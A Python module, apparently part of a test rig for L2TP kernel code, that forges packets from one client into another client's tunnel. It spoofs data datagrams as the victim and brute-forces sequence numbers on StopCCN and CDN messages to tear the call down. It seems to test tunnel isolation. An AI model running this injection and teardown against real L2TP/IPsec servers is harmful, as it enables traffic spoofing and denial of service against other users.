"""Packets that a client sends into somebody else's tunnel, from its own port 1701 and so through its own IPsec SA."""

import select
import socket
import struct
from collections.abc import Iterator
from typing import NamedTuple

from kernel.rig.net import Host
from kl2tp.kernel import l2tp as kernel_l2tp
from kl2tp.kernel.netlink import attributes
from kl2tp.wire import l2tp

_MARK_PORT = 4321
_STOPCCN, _CDN, _HELLO = 4, 14, 6
_MESSAGE_TYPE, _RESULT_CODE, _ASSIGNED_TUNNEL, _ASSIGNED_SESSION = 0, 1, 9, 14
_NUMBERS = 24
"""So many sequence numbers are tried for each message: one of them is what the victim's tunnel waits for."""
_CONN_ID, _PEER_CONN_ID, _SESSION_ID, _PEER_SESSION_ID = 9, 10, 11, 12


class Call(NamedTuple):
    """A call as a client's kernel has it: the server's ids are those of the peer."""

    host: Host
    address: str
    """In the call."""
    tunnel: int
    """The server's."""
    session: int
    own_tunnel: int
    own_session: int


def call_of(host: Host, address: str) -> Call:
    """The only call of a client."""
    found = host.netlink(kernel_l2tp.NETLINK_GENERIC).dump(*host.l2tp.dump_request(kernel_l2tp.SESSION_GET))
    names = (_CONN_ID, _PEER_CONN_ID, _SESSION_ID, _PEER_SESSION_ID)
    fields = [attributes(reply.payload, 4) for reply in found]
    calls = {tuple(int.from_bytes(each[name], "little") for name in names) for each in fields}
    # To 6.1 the socket by which pppd knows the tunnel is a session too, of number 0.
    ((own, peer, session, peer_session),) = (ids for ids in calls if ids[2])
    return Call(host, address, peer, peer_session, own, session)


def _avp(attribute: int, *values: int) -> bytes:
    body = b"".join(value.to_bytes(2) for value in values)
    return struct.pack("!HHH", 0x8000 | 6 + len(body), 0, attribute) + body


def _control(victim: Call) -> Iterator[bytes]:
    """Every message that would end the call, or the tunnel, if one believed it."""
    stop = _avp(_MESSAGE_TYPE, _STOPCCN) + _avp(_ASSIGNED_TUNNEL, victim.own_tunnel) + _avp(_RESULT_CODE, 1)
    clear = _avp(_MESSAGE_TYPE, _CDN) + _avp(_RESULT_CODE, 3) + _avp(_ASSIGNED_SESSION, victim.own_session)
    for number in range(_NUMBERS):
        yield l2tp.encode_control(victim.tunnel, victim.session, number, number, clear)
        yield l2tp.encode_control(victim.tunnel, 0, number, number, stop)
        yield l2tp.encode_control(victim.tunnel, 0, number, number, _avp(_MESSAGE_TYPE, _HELLO))


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _data(victim: Call, server_address: str, words: bytes) -> bytes:
    """A datagram as if from the victim."""
    ends = socket.inet_aton(victim.address) + socket.inet_aton(server_address)
    head = struct.pack("!BxHIBB", 0x45, 28 + len(words), 0, 64, socket.IPPROTO_UDP)
    head += _checksum(head + ends).to_bytes(2)
    body = struct.pack("!HHHH", 9, _MARK_PORT, 8 + len(words), 0) + words
    return l2tp.encode_data(victim.tunnel, victim.session, b"\x00\x21" + head + ends + body)


class Sink:
    """Where the datagrams end on the server."""

    def __init__(self, server: Host, address: str) -> None:
        self.address = address
        with server.entered():
            self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._sock.bind((address, _MARK_PORT))

    def got(self, within: float = 5.0) -> bytes:
        """The next that arrives; empty: none does in time."""
        if not select.select([self._sock], [], [], within)[0]:
            return b""
        return self._sock.recv(2048)

    def close(self) -> None:
        self._sock.close()


class Sender:
    """A socket on a client's port 1701, beside that of its xl2tpd."""

    def __init__(self, host: Host, address: str, server: str) -> None:
        with host.entered():
            self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((address, 1701))
        self._to = (server, 1701)

    def send(self, *datagrams: bytes) -> None:
        for packet in datagrams:
            self._sock.sendto(packet, self._to)

    def close(self) -> None:
        self._sock.close()


def speak(sender: Sender, victim: Call, sink: Sink, words: bytes) -> None:
    """Send data into a call, as its owner would."""
    sender.send(_data(victim, sink.address, words))


def packets(victim: Call, server_address: str) -> Iterator[bytes]:
    """Data for a call, and what would end it."""
    yield from [_data(victim, server_address, b"forged")] * 3
    yield from _control(victim)


def attack(sender: Sender, victim: Call, sink: Sink) -> int:
    """Send data into a call, and try to end it; how many packets."""
    sent = list(packets(victim, sink.address))
    sender.send(*sent)
    return len(sent)
